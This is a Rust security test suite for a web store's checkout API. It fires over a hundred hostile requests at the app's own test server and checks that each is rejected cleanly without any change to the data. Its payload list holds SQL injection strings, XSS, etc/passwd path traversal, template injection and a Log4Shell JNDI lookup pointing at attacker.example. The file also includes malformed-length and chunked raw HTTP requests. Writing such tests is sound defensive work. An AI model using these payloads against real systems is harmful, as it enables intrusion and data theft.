//! Proof by attack: well over a hundred hostile requests — malformed JSON, wrong types,
//! boundary and overflow numbers, unknown and duplicated fields, client-supplied prices, 5,000
//! lines, 3 MB bodies, unicode and injection strings in every string field, missing,
//! duplicated and conflicting headers, wrong methods and odd paths. Every answer must be a 4xx
//! problem+json; nothing may panic; the order tables must be byte-for-byte what they were.

use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::Once;

use reqwest::header::{HeaderName, HeaderValue};
use reqwest::Method;
use serde_json::{json, Value};

use crate::helpers::*;

/// Panics anywhere in this test binary, counted by a hook that chains to the default one.
static PANICS: AtomicUsize = AtomicUsize::new(0);

fn count_panics() {
    static HOOK: Once = Once::new();
    HOOK.call_once(|| {
        let previous = std::panic::take_hook();
        std::panic::set_hook(Box::new(move |info| {
            PANICS.fetch_add(1, Ordering::SeqCst);
            previous(info);
        }));
    });
}

/// Strings an attacker tries in every string field.
fn payloads() -> Vec<String> {
    let mut p: Vec<String> = [
        "' OR '1'='1",
        "'; DROP TABLE orders; --",
        "\" OR \"\"=\"",
        "1; SELECT pg_sleep(10)",
        "<script>alert(1)</script>",
        "../../../../etc/passwd",
        "${jndi:ldap://attacker.example/a}",
        "{{7*7}}",
        "%00",
        "\u{0000}",
        "US\u{0000}",
        "\u{202E}SU",
        "🇺🇸",
        "ＵＳ",
        "cаrd",
        "Ünïcödé ✓ 漢字 عربي",
        "\u{FEFF}US",
        "US ",
        "\n\r\t",
        "",
        "{\"$gt\": \"\"}",
        "\\x00\\xff",
    ]
    .into_iter()
    .map(str::to_owned)
    .collect();
    p.push("x".repeat(10_000));
    p
}

fn valid_line() -> Value {
    json!({"product_id": "p-1", "quantity": 1})
}

fn body_with(field: &str, value: Value) -> Value {
    let mut body = json!({"country": "US", "payment_method": "card", "items": [valid_line()]});
    match field {
        "product_id" | "quantity" => body["items"][0][field] = value,
        _ => body[field] = value,
    }
    body
}

type Headers = Vec<(HeaderName, HeaderValue)>;

/// One hostile request: a name for the report and the request to send.
struct Attack {
    name: String,
    request: reqwest::RequestBuilder,
}

struct Attacks<'a> {
    app: &'a TestApp,
    list: Vec<Attack>,
}

impl<'a> Attacks<'a> {
    fn checkout(&self) -> reqwest::RequestBuilder {
        self.app.checkout_request(Some(ALICE_KEY))
    }

    fn add(&mut self, name: impl Into<String>, request: reqwest::RequestBuilder) {
        self.list.push(Attack {
            name: name.into(),
            request,
        });
    }

    fn json(&mut self, name: impl Into<String>, body: Value) {
        let request = self.checkout().json(&body);
        self.add(name, request);
    }

    fn raw(&mut self, name: impl Into<String>, body: impl Into<reqwest::Body>) {
        let request = self
            .checkout()
            .header("content-type", "application/json")
            .body(body);
        self.add(name, request);
    }
}

fn build(app: &TestApp) -> Vec<Attack> {
    let mut a = Attacks {
        app,
        list: Vec::new(),
    };
    let valid = basket(&[("p-1", 1)]).to_string();

    // --- malformed JSON ------------------------------------------------------------------------
    for (name, body) in [
        ("truncated", r#"{"country": "US","#.to_owned()),
        ("not json", "not json".to_owned()),
        ("trailing garbage", format!("{valid} trailing")),
        ("two documents", format!("{valid}{valid}")),
        ("single quotes", "{'country': 'US'}".to_owned()),
        ("trailing comma", r#"{"country": "US", "payment_method": "card", "items": [],}"#.to_owned()),
        ("comment", format!("// hi\n{valid}")),
        ("NaN", r#"{"country":"US","payment_method":"card","items":[{"product_id":"p-1","quantity":NaN}]}"#.to_owned()),
        ("Infinity", r#"{"country":"US","payment_method":"card","items":[{"product_id":"p-1","quantity":Infinity}]}"#.to_owned()),
        ("empty body", String::new()),
        ("whitespace only", "   \n ".to_owned()),
        ("byte order mark", format!("\u{FEFF}{valid}")),
        ("nested 50,000 deep", "[".repeat(50_000)),
        ("unterminated string", r#"{"country": "US"#.to_owned()),
        ("bad escape", r#"{"country": "\u12"}"#.to_owned()),
        ("lone surrogate", r#"{"country": "\ud800", "payment_method": "card", "items": []}"#.to_owned()),
        ("number out of range", r#"{"country":"US","payment_method":"card","items":[{"product_id":"p-1","quantity":1e400}]}"#.to_owned()),
    ] {
        a.raw(format!("malformed: {name}"), body);
    }
    a.raw(
        "malformed: invalid UTF-8",
        b"{\"country\": \"\xff\xfe\", \"payment_method\": \"card\", \"items\": []}".to_vec(),
    );
    let utf16: Vec<u8> = valid.encode_utf16().flat_map(u16::to_le_bytes).collect();
    a.raw("malformed: UTF-16", utf16);

    // --- wrong types ----------------------------------------------------------------------------
    for (name, body) in [
        ("body null", json!(null)),
        ("body array", json!([1, 2, 3])),
        ("body string", json!("checkout")),
        ("body number", json!(42)),
        ("body true", json!(true)),
        ("empty object", json!({})),
    ] {
        a.json(format!("type: {name}"), body);
    }
    for (field, values) in [
        (
            "country",
            vec![
                json!(1),
                json!(null),
                json!(["US"]),
                json!({"code": "US"}),
                json!(true),
            ],
        ),
        (
            "payment_method",
            vec![json!(false), json!(null), json!(["card"]), json!(7)],
        ),
        (
            "items",
            vec![
                json!(null),
                json!("p-1"),
                json!(valid_line()),
                json!([1, 2]),
                json!([[valid_line()]]),
                json!([null]),
                json!(["p-1"]),
            ],
        ),
        (
            "product_id",
            vec![json!(1), json!(null), json!(["p-1"]), json!({"id": "p-1"})],
        ),
        (
            "quantity",
            vec![
                json!("2"),
                json!(null),
                json!(true),
                json!(1.5),
                json!(2.0),
                json!([1]),
                json!({"n": 1}),
            ],
        ),
    ] {
        for value in values {
            a.json(format!("type: {field} = {value}"), body_with(field, value));
        }
    }
    a.raw(
        "type: quantity 1e3",
        r#"{"country":"US","payment_method":"card","items":[{"product_id":"p-1","quantity":1e3}]}"#,
    );

    // --- boundary and overflow numbers ----------------------------------------------------------
    for q in [
        json!(0),
        json!(-1),
        json!(1001),
        json!(i64::MAX),
        json!(i64::MIN),
        json!(u64::MAX),
        json!(-0.0),
    ] {
        a.json(format!("number: quantity {q}"), body_with("quantity", q));
    }
    for literal in [
        "9223372036854775808",
        "-9223372036854775809",
        "18446744073709551616",
        "1E-400",
        "-0",
    ] {
        a.raw(
            format!("number: quantity {literal}"),
            format!(r#"{{"country":"US","payment_method":"card","items":[{{"product_id":"p-1","quantity":{literal}}}]}}"#),
        );
    }
    a.json(
        "lines: none",
        json!({"country": "US", "payment_method": "card", "items": []}),
    );
    a.json(
        "lines: 101",
        json!({"country": "US", "payment_method": "card", "items": vec![valid_line(); 101]}),
    );

    // --- unknown, duplicated and client-priced fields --------------------------------------------
    for (name, extra, in_line) in [
        ("price_cents in a line", "price_cents", true),
        ("unit_price_cents in a line", "unit_price_cents", true),
        ("amount_cents in a line", "amount_cents", true),
        ("total_cents", "total_cents", false),
        ("total_usd", "total_usd", false),
        ("total", "total", false),
        ("currency", "currency", false),
        ("discount", "discount", false),
        ("customer", "customer", false),
        ("order_id", "order_id", false),
        ("status", "status", false),
        ("__proto__", "__proto__", false),
        ("Country (case)", "Country", false),
    ] {
        let mut body = basket(&[("p-1", 1)]);
        if in_line {
            body["items"][0][extra] = json!(1);
        } else {
            body[extra] = json!({"isAdmin": true, "amount": 1});
        }
        a.json(format!("field: {name}"), body);
    }
    for (name, raw) in [
        (
            "country twice",
            r#"{"country":"US","country":"DE","payment_method":"card","items":[{"product_id":"p-1","quantity":1}]}"#,
        ),
        (
            "items twice",
            r#"{"country":"US","payment_method":"card","items":[{"product_id":"p-1","quantity":1}],"items":[{"product_id":"p-1","quantity":1000}]}"#,
        ),
        (
            "quantity twice",
            r#"{"country":"US","payment_method":"card","items":[{"product_id":"p-1","quantity":1,"quantity":1000}]}"#,
        ),
        (
            "product_id twice",
            r#"{"country":"US","payment_method":"card","items":[{"product_id":"p-1","product_id":"p-2","quantity":1}]}"#,
        ),
        (
            "escaped duplicate key",
            r#"{"country":"US","c\u006funtry":"DE","payment_method":"card","items":[{"product_id":"p-1","quantity":1}]}"#,
        ),
        (
            "payment_method twice",
            r#"{"country":"US","payment_method":"bank_transfer","payment_method":"card","items":[{"product_id":"p-1","quantity":1}]}"#,
        ),
    ] {
        a.raw(format!("duplicate: {name}"), raw);
    }

    // --- sizes ----------------------------------------------------------------------------------
    a.json(
        "size: 5,000 lines",
        json!({"country": "US", "payment_method": "card", "items": vec![valid_line(); 5_000]}),
    );
    let three_mb = "x".repeat(3 * 1024 * 1024);
    a.json(
        "size: 3 MB string field",
        json!({"country": three_mb, "payment_method": "card", "items": [valid_line()]}),
    );
    a.raw(
        "size: 3 MB of spaces",
        format!("{valid}{}", " ".repeat(3 * 1024 * 1024)),
    );
    let plain = a
        .checkout()
        .header("content-type", "text/plain")
        .body(three_mb.clone());
    a.add("size: 3 MB text/plain", plain);

    // --- unicode and injection strings in every string field ------------------------------------
    for payload in payloads() {
        let shown: String = payload.chars().take(24).collect();
        for field in ["country", "payment_method", "product_id"] {
            a.json(
                format!("string: {field} = {shown:?}"),
                body_with(field, json!(payload)),
            );
        }
        let id: String = payload
            .bytes()
            .take(200)
            .map(|b| format!("%{b:02X}"))
            .collect();
        let lookup = app
            .client
            .get(app.url(&format!("/api/v1/orders/{id}")))
            .bearer_auth(ALICE_KEY);
        a.add(format!("string: order id {shown:?}"), lookup);
        // In a header, with a body that fails validation: the key must not matter either way.
        if let Ok(value) = HeaderValue::from_bytes(payload.as_bytes()) {
            let keyed = a
                .checkout()
                .header("Idempotency-Key", value.clone())
                .json(&body_with("quantity", json!(0)));
            a.add(format!("string: Idempotency-Key {shown:?}"), keyed);
            let api_key = app
                .checkout_request(None)
                .header("X-API-Key", value)
                .json(&basket(&[("p-1", 1)]));
            a.add(format!("string: X-API-Key {shown:?}"), api_key);
        }
    }

    // --- headers: missing, duplicated, conflicting ------------------------------------------------
    let body = basket(&[("p-1", 1)]);
    let h = |name: &'static str, value: &str| {
        (
            HeaderName::from_static(name),
            HeaderValue::from_str(value).expect("header value"),
        )
    };
    let header_cases: Vec<(&str, Option<&str>, Headers)> = vec![
        ("no credentials", None, vec![]),
        (
            "Basic scheme",
            None,
            vec![h("authorization", "Basic YWxpY2U6YWxpY2Uta2V5")],
        ),
        (
            "Bearer without a key",
            None,
            vec![h("authorization", "Bearer ")],
        ),
        (
            "Bearer with spaces only",
            None,
            vec![h("authorization", "Bearer      ")],
        ),
        (
            "bare key without scheme",
            None,
            vec![h("authorization", ALICE_KEY)],
        ),
        (
            "bearer and X-API-Key differ",
            Some(ALICE_KEY),
            vec![h("x-api-key", BOB_KEY)],
        ),
        (
            "Authorization twice",
            Some(ALICE_KEY),
            vec![h("authorization", "Bearer bob-key")],
        ),
        (
            "Authorization twice, same key",
            Some(ALICE_KEY),
            vec![h("authorization", "Bearer alice-key")],
        ),
        (
            "X-API-Key twice",
            None,
            vec![h("x-api-key", ALICE_KEY), h("x-api-key", BOB_KEY)],
        ),
        (
            "8 KB Authorization",
            None,
            vec![h(
                "authorization",
                &format!("Bearer {}", "k".repeat(8 * 1024)),
            )],
        ),
        (
            "a revoked-looking key",
            None,
            vec![h("authorization", "Bearer alice-key-old")],
        ),
        (
            "key with a NUL-escape",
            None,
            vec![h("authorization", "Bearer alice-key%00")],
        ),
        (
            "Idempotency-Key empty",
            Some(ALICE_KEY),
            vec![h("idempotency-key", "")],
        ),
        (
            "Idempotency-Key twice",
            Some(ALICE_KEY),
            vec![h("idempotency-key", "k-1"), h("idempotency-key", "k-2")],
        ),
        (
            "Idempotency-Key twice, same value",
            Some(ALICE_KEY),
            vec![h("idempotency-key", "k-1"), h("idempotency-key", "k-1")],
        ),
        (
            "Idempotency-Key 256 characters",
            Some(ALICE_KEY),
            vec![h("idempotency-key", &"k".repeat(256))],
        ),
        (
            "Idempotency-Key with spaces",
            Some(ALICE_KEY),
            vec![h("idempotency-key", "my key")],
        ),
        (
            "Idempotency-Key half-quoted",
            Some(ALICE_KEY),
            vec![h("idempotency-key", "\"k-1")],
        ),
        (
            "Idempotency-Key as a list",
            Some(ALICE_KEY),
            vec![h("idempotency-key", "\"a\", \"b\"")],
        ),
    ];
    for (name, bearer, headers) in header_cases {
        let mut request = app.checkout_request(bearer).json(&body);
        for (n, v) in headers {
            // `header` would replace a same-named header; a raw append keeps both.
            request = request.header(n, v);
        }
        a.add(format!("header: {name}"), request);
    }
    for (name, content_type) in [
        ("text/plain", Some("text/plain")),
        ("application/xml", Some("application/xml")),
        ("form", Some("application/x-www-form-urlencoded")),
        ("multipart", Some("multipart/form-data; boundary=x")),
        ("garbage", Some("}{not a mime")),
        ("missing", None),
    ] {
        let mut request = app.checkout_request(Some(ALICE_KEY)).body(valid.clone());
        if let Some(ct) = content_type {
            request = request.header("content-type", ct);
        }
        a.add(format!("content type: {name}"), request);
    }
    let duplicated_ct = app
        .checkout_request(Some(ALICE_KEY))
        .header("content-type", "text/plain")
        .header(
            reqwest::header::CONTENT_TYPE,
            HeaderValue::from_static("text/html"),
        )
        .body(valid.clone());
    a.add("content type: two values", duplicated_ct);
    let utf16_ct = app
        .checkout_request(Some(ALICE_KEY))
        .header("content-type", "application/json; charset=utf-16")
        .body(
            valid
                .encode_utf16()
                .flat_map(u16::to_le_bytes)
                .collect::<Vec<u8>>(),
        );
    a.add("content type: UTF-16 charset", utf16_ct);

    // --- cross-origin -----------------------------------------------------------------------------
    for origin in [
        "https://evil.example",
        "null",
        "https://shop.example.evil.example",
    ] {
        let request = app
            .client
            .request(Method::OPTIONS, app.url("/api/v1/checkout"))
            .header("Origin", origin)
            .header("Access-Control-Request-Method", "POST")
            .header(
                "Access-Control-Request-Headers",
                "authorization, content-type",
            );
        a.add(format!("cors: preflight from {origin}"), request);
    }
    let no_method = app
        .client
        .request(Method::OPTIONS, app.url("/api/v1/checkout"))
        .header("Origin", "https://evil.example");
    a.add("cors: preflight without a method", no_method);

    // --- methods and paths ----------------------------------------------------------------------
    for m in [Method::GET, Method::PUT, Method::DELETE, Method::PATCH] {
        let request = app
            .client
            .request(m.clone(), app.url("/api/v1/checkout"))
            .bearer_auth(ALICE_KEY)
            .json(&body);
        a.add(format!("method: {m} /api/v1/checkout"), request);
    }
    for m in [Method::POST, Method::PUT, Method::DELETE] {
        let request = app
            .client
            .request(m.clone(), app.url("/api/v1/orders/some-id"))
            .bearer_auth(ALICE_KEY)
            .json(&body);
        a.add(format!("method: {m} /api/v1/orders/{{id}}"), request);
    }
    for path in [
        "/api/v1/checkout/",
        "/api/v1/Checkout",
        "/api/v1/checkout/../orders",
        "/api/v2/checkout",
        "/api/v1/orders/",
        "/api/v1/orders/%2e%2e%2f%2e%2e%2fetc%2fpasswd",
        "/api/v1/orders/x/y",
        "/api//v1/checkout",
        "/admin/faults",
    ] {
        let request = app
            .client
            .post(app.url(path))
            .bearer_auth(ALICE_KEY)
            .json(&body);
        a.add(format!("path: POST {path}"), request);
    }
    a.list
}

/// Requests reqwest will not send, written to the socket: (name, bytes).
fn raw_attacks(app: &TestApp) -> Vec<(String, Vec<u8>)> {
    let head = |extra: &str| {
        format!(
            "POST /api/v1/checkout HTTP/1.1\r\nHost: 127.0.0.1:{}\r\nAuthorization: Bearer {ALICE_KEY}\r\nContent-Type: application/json\r\nConnection: close\r\n{extra}\r\n",
            app.port
        )
    };
    let mut chunked = head("Transfer-Encoding: chunked\r\n").into_bytes();
    for _ in 0..48 {
        chunked.extend_from_slice(format!("{:x}\r\n", 64 * 1024).as_bytes());
        chunked.extend(std::iter::repeat_n(b' ', 64 * 1024));
        chunked.extend_from_slice(b"\r\n");
    }
    chunked.extend_from_slice(b"0\r\n\r\n");
    let body = basket(&[("p-1", 1)]).to_string();
    let mut lying = head(&format!("Content-Length: {}\r\n", body.len() + 100)).into_bytes();
    lying.extend_from_slice(body.as_bytes());
    let mut short = head("Content-Length: 10\r\n").into_bytes();
    short.extend_from_slice(body.as_bytes());
    vec![
        ("raw: 3 MB chunked, no Content-Length".to_owned(), chunked),
        ("raw: Content-Length longer than the body".to_owned(), lying),
        (
            "raw: Content-Length shorter than the body".to_owned(),
            short,
        ),
    ]
}

/// Sends `bytes` on a fresh connection and returns (status, content type, body), reading
/// until the server closes.
async fn send_raw(port: u16, bytes: Vec<u8>) -> Result<(u16, String, String), String> {
    use tokio::io::{AsyncReadExt, AsyncWriteExt};
    let stream = tokio::net::TcpStream::connect(("127.0.0.1", port))
        .await
        .map_err(|e| e.to_string())?;
    let (mut reader, mut writer) = stream.into_split();
    // The server may answer (413) before it has read everything: write in the background and
    // ignore a reset once it has.
    let writing = tokio::spawn(async move {
        let _ = writer.write_all(&bytes).await;
        let _ = writer.shutdown().await;
        writer
    });
    let mut answer = Vec::new();
    let read = tokio::time::timeout(std::time::Duration::from_secs(10), async {
        let mut buf = [0u8; 8192];
        loop {
            match reader.read(&mut buf).await {
                Ok(0) => break,
                Ok(n) => answer.extend_from_slice(&buf[..n]),
                Err(_) if !answer.is_empty() => break,
                Err(e) => return Err(e.to_string()),
            }
        }
        Ok(())
    })
    .await;
    drop(writing);
    match read {
        Err(_) if answer.is_empty() => return Err("no answer within 10 s".to_owned()),
        Ok(Err(e)) => return Err(e),
        _ => {}
    }
    let text = String::from_utf8_lossy(&answer).into_owned();
    let (head, body) = text.split_once("\r\n\r\n").unwrap_or((&text, ""));
    let status = head
        .split(' ')
        .nth(1)
        .and_then(|s| s.parse().ok())
        .ok_or_else(|| format!("no status line in {head:?}"))?;
    let content_type = head
        .lines()
        .find_map(|l| {
            let (k, v) = l.split_once(':')?;
            k.eq_ignore_ascii_case("content-type")
                .then(|| v.trim().to_owned())
        })
        .unwrap_or_default();
    // A keep-alive server may have read our extra bytes as a second request: keep only the
    // first answer's body.
    let length = head
        .lines()
        .find_map(|l| {
            let (k, v) = l.split_once(':')?;
            k.eq_ignore_ascii_case("content-length")
                .then(|| v.trim().parse::<usize>().ok())?
        })
        .unwrap_or(body.len());
    let body = body.get(..length).unwrap_or(body);
    Ok((status, content_type, body.to_owned()))
}

/// `None` if the answer is a 4xx problem+json, else what is wrong with it.
fn problem_failure(status: u16, content_type: &str, text: &str) -> Option<String> {
    let problem: Option<Value> = serde_json::from_str(text).ok();
    let ok = (400..500).contains(&status)
        && content_type == PROBLEM_JSON
        && problem.as_ref().is_some_and(|p| {
            p["status"] == status
                && p["type"]
                    .as_str()
                    .is_some_and(|t| t.starts_with("https://webstore.example/problems/"))
                && p["title"].is_string()
        });
    (!ok).then(|| {
        let shown: String = text.chars().take(200).collect();
        format!("{status} {content_type:?} {shown}")
    })
}

async fn hostile_suite(app: &TestApp) {
    count_panics();
    let panics_before = PANICS.load(Ordering::SeqCst);
    app.given_product("p-1", "Widget", 1999).await;
    app.given_product("p-2", "Gadget", 550).await;
    app.given_charge_succeeds("ch_1").await;
    // Real rows to protect: the checksum must cover something.
    for key in ["seed-1", "seed-2"] {
        assert_created(
            app.post_checkout_keyed(&basket(&[("p-1", 2), ("p-2", 1)]), ALICE_KEY, key)
                .await,
        )
        .await;
    }
    let before = app.tables_checksum().await;
    let orders_before = app.order_count().await;
    let charges_before = app.charge_requests().await.len();

    let wrong_method = app.get("/api/v1/checkout").await;
    assert_eq!(
        wrong_method
            .headers()
            .get("allow")
            .and_then(|v| v.to_str().ok()),
        Some("POST")
    );
    assert_problem(wrong_method, 405, "method-not-allowed").await;

    let attacks = build(app);
    let total = attacks.len();
    let mut failures = Vec::new();
    let mut by_status = std::collections::BTreeMap::<u16, usize>::new();
    for attack in attacks {
        let response = match attack.request.send().await {
            Ok(r) => r,
            Err(e) => {
                failures.push(format!("{}: no answer ({e})", attack.name));
                continue;
            }
        };
        let status = response.status().as_u16();
        *by_status.entry(status).or_default() += 1;
        let content_type = response
            .headers()
            .get("content-type")
            .and_then(|v| v.to_str().ok())
            .unwrap_or_default()
            .to_owned();
        let text = response.text().await.unwrap_or_default();
        if let Some(why) = problem_failure(status, &content_type, &text) {
            failures.push(format!("{}: {why}", attack.name));
        }
    }
    let raw = raw_attacks(app);
    let total = total + raw.len();
    for (name, bytes) in raw {
        match send_raw(app.port, bytes).await {
            Ok((status, content_type, text)) => {
                *by_status.entry(status).or_default() += 1;
                if let Some(why) = problem_failure(status, &content_type, &text) {
                    failures.push(format!("{name}: {why}"));
                }
            }
            Err(e) => failures.push(format!("{name}: {e}")),
        }
    }
    eprintln!("hostile suite: {total} requests, answers by status: {by_status:?}");
    assert!(total >= 40, "at least 40 hostile requests, got {total}");
    assert!(
        failures.is_empty(),
        "{} of {total} hostile requests were not answered with a 4xx problem+json:\n{}",
        failures.len(),
        failures.join("\n")
    );
    assert_eq!(app.tables_checksum().await, before, "the tables changed");
    assert_eq!(app.order_count().await, orders_before);
    assert_eq!(
        app.charge_requests().await.len(),
        charges_before,
        "the gateway was called"
    );
    assert_eq!(
        PANICS.load(Ordering::SeqCst),
        panics_before,
        "something panicked"
    );
    let panicked: Vec<String> = test_support::captured_logs()
        .into_iter()
        .filter(|l| l.contains("panicked at"))
        .collect();
    assert!(panicked.is_empty(), "{panicked:?}");
}

#[tokio::test]
async fn hostile_requests_get_4xx_problems_and_change_nothing() {
    hostile_suite(&spawn_app().await).await;
}

#[tokio::test]
async fn hostile_requests_on_postgres() {
    let Some(url) = test_support::postgres_database().await else {
        return;
    };
    hostile_suite(&spawn_app_with(url).await).await;
}
